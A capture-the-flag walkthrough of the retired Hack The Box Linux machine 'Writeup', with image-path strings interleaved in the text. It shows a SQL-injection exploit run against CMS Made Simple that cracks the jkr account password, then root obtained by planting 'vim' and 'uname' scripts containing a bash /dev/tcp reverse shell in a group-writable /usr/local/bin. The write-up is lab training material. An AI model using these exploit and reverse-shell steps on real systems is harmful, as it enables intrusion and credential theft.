Name: Writeup
Release Date: 08 Jun 2019
Retire Date: 12 Oct 2019
OS: Linux
Base Points: Easy - Retired [0]
Rated Difficulty:
Radar Graph:
artikrh 00 days, 00 hours, 16 mins, 19 seconds
qtc 00 days, 01 hours, 08 mins, 18 seconds
Creator: jkr
CherryTree File: CherryTree - Remove the .txt extension

Again, we start with nmap -sC -sV -Pn -p- -oA ./Writeup

$ nmap -sC -sV -Pn -p- -oA ./Writeup
Starting Nmap 7.80 ( https://nmap.org ) at 2020-08-27 18:47 EDT
Nmap scan report for
Host is up (0.11s latency).
Not shown: 65533 filtered ports
22/tcp open  ssh     OpenSSH 7.4p1 Debian 10+deb9u6 (protocol 2.0)
| ssh-hostkey:
|   2048 dd:53:10:70:0b:d0:47:0a:e2:7e:4a:b6:42:98:23:c7 (RSA)
|   256 37:2e:14:68:ae:b9:c2:34:2b:6e:d9:92:bc:bf:bd:28 (ECDSA)
|_  256 93:ea:a8:40:42:c1:a8:33:85:b3:56:00:62:1c:a0:ab (ED25519)
80/tcp open  http    Apache httpd 2.4.25 ((Debian))
| http-robots.txt: 1 disallowed entry
|_http-server-header: Apache/2.4.25 (Debian)
|_http-title: Nothing here yet.
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 272.45 seconds

So, we are dealing with SSH, HTTP on their usual ports.  Navigating to the HTTP side has a pretty dope/nostalgic/retro page on it that basically tells us that there's DoS protections in place.  Like that would ever stop us, right everyone? <wink, wink, nudge, nudge>  Although that does kind of kill the usual Gobuster/Dirb/Dirbuster plan.

We do know that there is a DoS Web App Protection script running, so brute checking directories is out, but we also know that /writeup is disallowed from the nmap script.  Going into /writeup and checking the source code, we can see that it is using CMS Made Simple from around 2019 (copyright is 2004-2019).  That means that it's somewhere between version 2.2.9 and 2.2.13.  Running a quick CMS Made Simple 2.2 searchsploit finds a ready-made exploit for us to run some SQLi on.

So, let's run that and see what happens!


python 46635 -u --crack -w /usr/share/wordlists/rockyou.txt[+] Salt for password found: 5a599ef579066807
[+] Username found: jkr
[+] Email found: jkr@writeup.htb
[+] Password found: 62def4866937f08cc13bab43bb14e6f7
[+] Password cracked: raykayjay9

Now we can ssh as jkr with raykayjay9 as the password.  Run LinEnum and I see that jkr is in a group called staff.  That's not a normal group..... Anything special about it?

jkr@writeup:~$ find / -group staff 2>/dev/null


It looks like we can pretty much do anything in /usr/local since staff owns it.  Still not seeing an easy win here.  Let's check PATH variables.

jkr@writeup:/usr/local$ echo $PATH

Well, there's something.  We belong to the Staff group, which owns everything in /usr/local, and /usr/local/bin is the first place the system looks for a system command.  Let's mock up a system command (a simple one like vim) with areverse shell call in it and see if PATH runs it as root on a new login.  The answer is no.  Let's try it with uname instead since it looks like new ssh sessions run uname on login.

jkr@writeup:/usr/local$ cd /tmp
jkr@writeup:/tmp$ printf '#!/bin/bash' > vim
jkr@writeup:/tmp$ printf '\nbash -i >& /dev/tcp/ 0>&1' >> vim
jkr@writeup:/tmp$ chmod a+x vim
jkr@writeup:/tmp$ cp vim /usr/local/bin
jkr@writeup:/tmp$ printf '#!/bin/bash' > uname
jkr@writeup:/tmp$printf '\nbash -i >& /dev/tcp/ 0>&1' >> uname
jkr@writeup:/tmp$ chmod a+x uname
jkr@writeup:/tmp$ cp uname /usr/local/bin


It looks likeuname did the trick! Grab your goodies (flags, shadow file, ifconfig, etc) and you are finished!